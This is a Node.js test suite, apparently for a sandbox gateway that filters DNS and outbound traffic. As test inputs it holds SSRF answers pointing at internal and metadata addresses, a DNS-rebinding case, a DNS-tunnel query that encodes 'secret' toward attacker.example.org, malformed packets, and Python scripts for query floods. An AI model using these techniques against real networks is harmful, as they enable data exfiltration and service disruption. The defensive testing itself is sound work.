// Attack cases 2-7, 22-25, 31, 58: the resolver is part of the policy.
import assert from 'node:assert/strict'
import http from 'node:http'
import { after, before, test } from 'node:test'
import { at, Guest, logged, restricted, setPolicy, sleep, World } from './world.mjs'

const gateway = '10.77.0.1'
const nxdomain = 3
const blocked = 15, filtered = 17

const hostile = {
  'metadata.google.internal': { A: ['169.254.169.254'] },
  'mapped.example.com': { AAAA: ['::ffff:10.0.0.5', '64:ff9b::a00:5', '2002:a00:5::', '::10.0.0.5'] },
  'host.example.com': { A: ['0.0.0.0', '127.0.0.1', '45.0.0.1', '10.77.0.1'] },
  'mixed.example.com': { A: ['10.0.0.1', '10.0.0.2', '192.168.9.9', at.allowed, '127.0.0.1', '169.254.169.254', '172.16.9.9', '100.64.9.9'] },
  'chain.example.com': { CNAME: 'inside.example.com' },
  'inside.example.com': { A: ['10.9.9.9'] },
  'rebind.example.com': { A: [[at.allowed], ['127.0.0.1']], ttl: 0 },
  'texts.example.com': { A: [at.allowed], TXT: ['hello'] },
  'https.example.com': { A: [at.allowed], HTTPS: `0001${'00'}${'000100030268320004${V4}0005000474657374'.replace('${V4}', '00042d00020a')}` },
}

let world, open, narrow
before(async () => {
  world = await World.open(hostile)
  open = await Guest.create({ mode: 'allow_all' })
  narrow = await Guest.create(restricted('allowed.example.com', 'six.example.com', 'rebind.example.com', 'texts.example.com', 'https.example.com'))
})
after(async () => {
  await Promise.all([open?.kill(), narrow?.kill()])
  await world?.close()
})

const addresses = (answer) => answer.answers.filter(({ type }) => type === 1 || type === 28).map(({ value }) => value)
const queriesFor = async (name) => (await world.seen()).queries.filter((query) => query.name.endsWith(name))

for (const [number, name, type] of [[2, 'metadata.google.internal', 'A'], [3, 'mapped.example.com', 'AAAA'], [4, 'host.example.com', 'A'], [7, 'chain.example.com', 'A']])
  test(`${number} every answer for ${name} points inside: filtered`, async () => {
    const answer = await open.probe('dns', gateway, name, type)
    assert.deepEqual([answer.rcode, answer.ede, addresses(answer)], [nxdomain, filtered, []])
    assert.match(answer.text, /deny_filtered/)
    await logged(open, { kind: 'dns', host: name, allowed: false, reason: 'deny_filtered' })
    assert.ok((await queriesFor(name)).length > 0, 'control: it was asked for, and had an answer')
  })

test('control: a public name resolves', async () => {
  assert.deepEqual(addresses(await open.probe('dns', gateway, 'allowed.example.com', 'A')), [at.allowed])
})

test('6 of eight addresses only the public one is handed out and dialled', async () => {
  assert.deepEqual(addresses(await open.probe('dns', gateway, 'mixed.example.com', 'A')), [at.allowed])
})

test('5 a name that changes its mind to 127.0.0.1 is not followed there', async () => {
  let requests = 0
  const server = http.createServer((request, response) => { ++requests; response.end('host') })
  await new Promise((resolve) => server.listen(80, '127.0.0.1', resolve))
  try {
    const first = await narrow.run('curl -sS -m 10 http://rebind.example.com/')
    assert.match(first.stdout, /"host":"rebind\.example\.com"/)
    await sleep(6_000) // longer than the shortest time an answer is kept
    const second = await narrow.run(`curl -sS -m 10 --resolve rebind.example.com:80:${at.allowed} http://rebind.example.com/`)
    assert.match(second.stdout, /"error":"egress_denied","reason":"deny_filtered"/)
    await logged(narrow, { host: 'rebind.example.com', allowed: false, reason: 'deny_filtered' })
    assert.equal(requests, 0)
    assert.equal(await (await fetch('http://127.0.0.1/')).text(), 'host', 'control: it does listen')
  } finally {
    server.close()
  }
})

test('22 whoever is asked, the gateway answers', async () => {
  await world.forget()
  for (const over of ['udp', 'tcp'])
    for (const server of ['8.8.8.8', at.evilResolver, '2606:4700::1111']) {
      assert.deepEqual(addresses(await narrow.probe('dns', server, 'allowed.example.com', 'A', over)), [at.allowed])
      const answer = await narrow.probe('dns', server, 'blocked.example.net', 'A', over)
      assert.deepEqual([answer.rcode, answer.ede], [nxdomain, blocked])
    }
  assert.deepEqual([...new Set((await world.seen()).queries.map(({ to }) => to))].filter((to) => to !== at.resolver), [])
  await world.nothingLeftFor('8.8.8.8')
})

test('23 a tunnel through DNS is refused without a question to anybody', async () => {
  await world.forget()
  for (const policy of [restricted('allowed.example.com'), { mode: 'deny_all' }]) {
    await setPolicy(narrow, policy)
    const answer = await narrow.probe('dns', gateway, 'c2VjcmV0.attacker.example.org', 'TXT')
    assert.deepEqual([answer.rcode, answer.ede], [nxdomain, blocked])
  }
  assert.deepEqual(await queriesFor('attacker.example.org'), [])
  assert.notEqual((await open.probe('dns', gateway, 'c2VjcmV0.attacker.example.org', 'TXT')).answers.length, 0)
  assert.notEqual((await queriesFor('attacker.example.org')).length, 0, 'control: where all is allowed it is asked')
})

test('24 a tunnel under an allowed wildcard ends at the limit of new names', async () => {
  await setPolicy(narrow, { ...restricted('*.wild.example.com', 'allowed.example.com'), limits: { dns_qps: 5000 } })
  const { stdout } = await narrow.run(`python3 - <<'EOF'
import socket, struct
asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asked.settimeout(5)
codes = {}
for number in range(1100):
    name = b"".join(bytes([len(part)]) + part for part in (b"n%d" % number, b"wild", b"example", b"com")) + b"\\0"
    for attempt in range(3):
        asked.sendto(struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1), ("${gateway}", 53))
        try:
            answer = asked.recv(4096)
            while struct.unpack(">H", answer[:2])[0] != number: answer = asked.recv(4096)
            break
        except TimeoutError:
            continue
    codes.setdefault(answer[3] & 15, []).append(number)
print(len(codes.get(0, [])), min(codes.get(2, [-1])), len(codes.get(2, [])))
EOF`)
  const [good, firstBad, bad] = stdout.trim().split(' ').map(Number)
  assert.ok(good >= 900 && good <= 1000, stdout)
  assert.ok(bad >= 100 && firstBad >= 900, stdout)
  assert.deepEqual(addresses(await narrow.probe('dns', gateway, 'allowed.example.com', 'A')), [at.allowed], 'control: a name of its own goes on')
})

test('25 what is no DNS is dropped or FORMERR, too many are refused, and others are served meanwhile', async () => {
  await setPolicy(narrow, restricted('allowed.example.com'))
  for (const bytes of ['00', 'ffffffffffffffffffffffffffffffff', '123401000001000000000000c00c00010001', `12340100ffff${'00'.repeat(20)}`, '00'.repeat(1200)]) {
    const answer = await narrow.probe('udp', gateway, 53, bytes, 1)
    if (answer.result === 'answer') assert.equal(Number.parseInt(answer.data.slice(6, 8), 16) & 15, 1, JSON.stringify(answer))
    else assert.equal(answer.result, 'timeout')
  }
  const flood = narrow.run(`python3 - <<'EOF'
import socket, struct, time
asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asked.setblocking(False)
name = b"\\7allowed\\7example\\3com\\0"
answers = {}
for number in range(10000):
    try: asked.sendto(struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1), ("${gateway}", 53))
    except BlockingIOError: pass
time.sleep(1)
try:
    while True:
        code = asked.recv(4096)[3] & 15
        answers[code] = answers.get(code, 0) + 1
except BlockingIOError: pass
print(answers.get(0, 0))
EOF`)
  for (let i = 0; i < 5; ++i) assert.deepEqual(addresses(await open.probe('dns', gateway, 'allowed.example.com', 'A')), [at.allowed])
  const served = Number((await flood).stdout)
  assert.ok(served > 0 && served < 5_000, `${served} of 10,000 answered`)
  await sleep(2_000)
  assert.deepEqual(addresses(await narrow.probe('dns', gateway, 'allowed.example.com', 'A')), [at.allowed])
})

test('31 a name with IPv6 only is allowed or refused as any other', async () => {
  await setPolicy(narrow, restricted('six.example.com'))
  assert.deepEqual(addresses(await narrow.probe('dns', gateway, 'six.example.com', 'AAAA')), [at.allowed6])
  assert.match((await narrow.run('curl -sS -m 10 http://six.example.com/')).stdout, /2a0d:45::10/)
  assert.deepEqual((await narrow.probe('dns', gateway, 'blocked.example.net', 'AAAA')).ede, blocked)
})

test('58 a denied name and one that does not exist get the same answer', async () => {
  await world.forget()
  const [there, not] = [await narrow.probe('dns', gateway, 'blocked.example.net', 'A'), await narrow.probe('dns', gateway, 'nosuch1.example.net', 'A')]
  const bare = ({ ms, ...rest }) => rest
  assert.deepEqual(bare(there), bare(not))
  assert.deepEqual(await queriesFor('example.net'), [])
})

test('other types: refused where names are few, forwarded where all is allowed', async () => {
  await setPolicy(narrow, restricted('texts.example.com'))
  const none = await narrow.probe('dns', gateway, 'texts.example.com', 'TXT')
  assert.deepEqual([none.rcode, none.answers], [0, []])
  assert.equal((await open.probe('dns', gateway, 'texts.example.com', 'TXT')).answers.length, 1)
})

test('19 an HTTPS record loses its hints and its ECH', async () => {
  await setPolicy(narrow, restricted('https.example.com'))
  const hex = (await narrow.probe('dns', gateway, 'https.example.com', 'HTTPS')).answers.find(({ type }) => type === 65).value
  assert.ok(hex.includes('0001000302'), 'ALPN stays')
  assert.ok(!hex.includes('2d00020a') && !hex.includes('74657374'), hex)
})
